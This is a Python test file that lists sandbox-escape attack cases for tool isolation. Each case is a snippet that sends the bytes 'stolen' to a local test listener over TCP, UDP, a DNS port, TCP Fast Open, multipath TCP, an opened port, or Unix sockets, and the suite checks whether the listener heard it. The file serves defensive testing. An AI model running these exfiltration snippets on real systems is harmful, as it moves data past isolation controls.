"""Reaching whom no tool was allowed to reach. Nothing is called that is not of this machine."""

from tests.attacks.attack import Attack, Ran
from tests.attacks.listeners import heard
from tests.attacks.scene import Scene

_OFF = {"annotations": {"openWorldHint": False}}
_ON = {"annotations": {"openWorldHint": True}}


def _tcp_heard(scene: Scene, _: Ran) -> bool:
    return heard(scene.listeners.tcp)


def _udp_heard(scene: Scene, _: Ran) -> bool:
    return heard(scene.listeners.udp)


def _dns_heard(scene: Scene, _: Ran) -> bool:
    return heard(scene.listeners.dns)


def _path_socket_heard(scene: Scene, _: Ran) -> bool:
    return heard(scene.listeners.path)


def _abstract_socket_heard(scene: Scene, _: Ran) -> bool:
    return heard(scene.listeners.abstract)


def _can_be_called(scene: Scene, _: Ran) -> bool:
    return scene.listeners.caller.heard


_TO_ABSTRACT = """
with socket.socket(socket.AF_UNIX) as out:
    out.connect(at.abstract_socket)
    out.send(b"stolen")
"""

NETWORK = (
    Attack(
        "send to a server by TCP",
        """
with socket.create_connection(at.tcp, timeout=2) as out:
    out.send(b"stolen")
""",
        _tcp_heard,
        manifest=_OFF,
    ),
    Attack(
        "send to a server by UDP",
        """
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
    out.sendto(b"stolen", tuple(at.udp))
""",
        _udp_heard,
        manifest=_OFF,
    ),
    Attack(
        "send by the name service of another address",
        """
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
    out.connect(tuple(at.dns))
    out.send(b"stolen")
""",
        _dns_heard,
        manifest=_OFF,
    ),
    Attack(
        "send by TCP in its first packet",
        """
MSG_FASTOPEN = 0x20000000
with socket.socket(socket.AF_INET) as out:
    out.sendto(b"stolen", MSG_FASTOPEN, tuple(at.tcp))
""",
        _tcp_heard,
        manifest=_OFF,
    ),
    Attack(
        "send by multipath TCP",
        """
IPPROTO_MPTCP = 262
with socket.socket(socket.AF_INET, socket.SOCK_STREAM, IPPROTO_MPTCP) as out:
    out.settimeout(2)
    out.connect(tuple(at.tcp))
    out.send(b"stolen")
""",
        _tcp_heard,
        manifest=_OFF,
    ),
    Attack(
        "wait for a call at a port",
        """
with socket.create_server(("127.0.0.1", at.free_port)) as listening:
    listening.settimeout(1)
    connection, _ = listening.accept()
    connection.send(b"stolen")
    connection.close()
""",
        _can_be_called,
        manifest=_OFF,
    ),
    Attack(
        "connect to a Unix socket by its path",
        """
with socket.socket(socket.AF_UNIX) as out:
    out.connect(at.path_socket)
    out.send(b"stolen")
""",
        _path_socket_heard,
        manifest=_OFF,
    ),
    Attack("connect to an abstract Unix socket", _TO_ABSTRACT, _abstract_socket_heard, manifest=_OFF),
    Attack(
        "connect to an abstract Unix socket where it has the network",
        _TO_ABSTRACT,
        _abstract_socket_heard,
        manifest=_ON,
    ),
)
